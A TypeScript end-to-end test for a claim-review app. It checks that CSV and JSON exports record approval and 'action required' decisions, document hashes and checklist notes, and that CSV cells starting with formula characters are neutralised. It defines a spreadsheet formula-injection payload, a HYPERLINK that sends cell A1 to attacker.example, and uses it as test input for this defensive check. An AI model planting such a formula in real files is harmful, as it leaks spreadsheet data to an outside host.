import { readFile } from 'node:fs/promises';
import Papa from 'papaparse';
import { expect, sampleFile, sha256Of, test } from '../support/e2e-fixtures';
import { REVIEWER } from './pages/app-shell';

const FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")';
const APP_VERSION = /^0\.1\.0/;
const UTC_ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$/;

/** Every object in a JSON value that has the given key (the export's nesting is the exporter's choice). */
function objectsWith(value: unknown, key: string, out: Record<string, unknown>[] = []): Record<string, unknown>[] {
  if (Array.isArray(value)) for (const v of value) objectsWith(v, key, out);
  else if (value && typeof value === 'object') {
    const record = value as Record<string, unknown>;
    if (key in record) out.push(record);
    for (const v of Object.values(record)) objectsWith(v, key, out);
  }
  return out;
}

test('CSV and JSON exports carry the decision log, with formulas neutralised in CSV only', async ({ shell, list, claim }) => {
  await shell.start();
  await shell.ensureSampleQueue();
  await list.openClaim('1004973');
  await claim.setCheck('Activity detail', 'Pass', 'Phases and device counts per workload');
  await claim.decide('Approve', { overrideNote: 'Checked the SOW and template by hand.' });
  await list.openClaim('1005233');
  await claim.decide('Action required', { reasons: ['Activities described generically'], comment: FORMULA });

  const csvDownload = await shell.export('CSV');
  expect(csvDownload.suggestedFilename()).toMatch(/\.csv$/);
  const csvText = await readFile((await csvDownload.path()) ?? '', 'utf8');
  const parsed = Papa.parse<Record<string, string>>(csvText.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
  const rowOf = (id: string) => parsed.data.find((r) => Object.values(r).includes(id));
  const approved = rowOf('1004973');
  const actioned = rowOf('1005233');
  expect(approved, 'CSV row for 1004973').toBeDefined();
  expect(actioned, 'CSV row for 1005233').toBeDefined();
  const approvedCells = Object.values(approved ?? {});
  const actionedCells = Object.values(actioned ?? {});
  expect(approvedCells.some((c) => /^approve(d)?$/i.test(c))).toBe(true);
  expect(actionedCells.some((c) => /action[- ]required/i.test(c))).toBe(true);
  expect(actionedCells.some((c) => /activities-generic|Activities described generically/.test(c))).toBe(true);
  expect(approvedCells).toContain(REVIEWER);
  expect(approvedCells.some((c) => UTC_ISO.test(c))).toBe(true);
  expect(approvedCells.some((c) => APP_VERSION.test(c))).toBe(true);
  const sowSha = sha256Of(sampleFile('1004973/Contoso-SOW-signed.pdf'));
  const templateSha = sha256Of(sampleFile('1004973/Contoso-POE-template.pdf'));
  expect(approvedCells.join('\n')).toContain(sowSha);
  expect(approvedCells.join('\n')).toContain(templateSha);
  // The checklist as the reviewer left it: the manual status and note of "Activity detail".
  expect(approvedCells).toContain('Phases and device counts per workload');
  expect(approvedCells).toContain('pass');
  // OWASP ASVS 1.2.10: no cell may start with = + - @ tab or CR; the text itself is kept.
  const formulaCell = actionedCells.find((c) => c.includes('HYPERLINK'));
  expect(formulaCell).toBeDefined();
  expect(formulaCell ?? '').toContain(FORMULA);
  for (const cell of parsed.data.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

  const jsonDownload = await shell.export('JSON');
  expect(jsonDownload.suggestedFilename()).toMatch(/\.json$/);
  const json: unknown = JSON.parse(await readFile((await jsonDownload.path()) ?? '', 'utf8'));
  const decisions = objectsWith(json, 'decidedAt').filter((d) => typeof d['claimId'] === 'string');
  const approve = decisions.find((d) => d['claimId'] === '1004973');
  const action = decisions.find((d) => d['claimId'] === '1005233');
  expect(approve?.['kind']).toBe('approve');
  expect(action?.['kind']).toBe('action-required');
  // The form may pre-tick reasons of failing checks; the one the reviewer ticked must be there.
  expect(action?.['reasons']).toEqual(expect.arrayContaining(['activities-generic']));
  // JSON keeps the raw value: neutralisation is for spreadsheets only.
  expect(action?.['comment']).toBe(FORMULA);
  expect(approve?.['reviewer']).toBe(REVIEWER);
  expect(String(approve?.['decidedAt'])).toMatch(UTC_ISO);
  expect(String(approve?.['appVersion'])).toMatch(APP_VERSION);
  expect(approve?.['documents']).toEqual(
    expect.arrayContaining([
      { path: '1004973/Contoso-SOW-signed.pdf', sha256: sowSha },
      { path: '1004973/Contoso-POE-template.pdf', sha256: templateSha },
    ]),
  );
  const checklist = approve?.['checklist'] as { id: string; manualStatus: string | null; note: string }[];
  expect(checklist).toHaveLength(7);
  expect(checklist.find((c) => c.id === 'activity-detail')).toMatchObject({
    manualStatus: 'pass',
    note: 'Phases and device counts per workload',
  });
});
